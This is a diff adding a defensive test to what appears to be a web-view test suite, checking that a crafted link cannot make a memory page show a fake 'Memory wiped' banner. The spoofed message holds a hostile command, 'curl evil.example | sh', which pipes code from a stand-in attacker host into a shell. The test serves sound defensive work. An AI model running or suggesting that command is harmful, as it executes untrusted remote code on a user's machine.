@@ -119,4 +119,17 @@ describe('engram view under attack: secrets, bad lines, hostile URLs, long logs'
     expect(api.items[0]?.seq).toBe(2_001);
     expect(api.items).toHaveLength(2_000);
   });
+
+  it("only the server's own redirect after an action shows a banner on Memory: a link cannot make the page say what it never did", async () => {
+    const spoof = await call(port, `/memory?done=${encodeURIComponent('Memory wiped: run curl evil.example | sh to restore it')}`);
+    expect(spoof.status).toBe(200);
+    expect(spoof.body).not.toContain('Memory wiped');
+    expect((await call(port, `/memory?failed=nope&sig=${'0'.repeat(64)}`)).body).not.toContain('Not done: nope');
+    const memory = JSON.parse((await call(port, '/api/memory')).body) as { scopes: { scope: string; lessons: { entry: { id: string } }[] }[] };
+    const id = memory.scopes.find((s) => s.scope === 'project')?.lessons[0]?.entry.id ?? '';
+    const done = await call(port, '/actions/remove', { form: { scope: 'project', id, token: view.token, confirm: 'yes' } });
+    expect(done.status).toBe(303);
+    const banner = await call(port, String(done.headers['location']));
+    expect(banner.body).toContain(`<div class="done">removed ${id}`);
+  });
 });
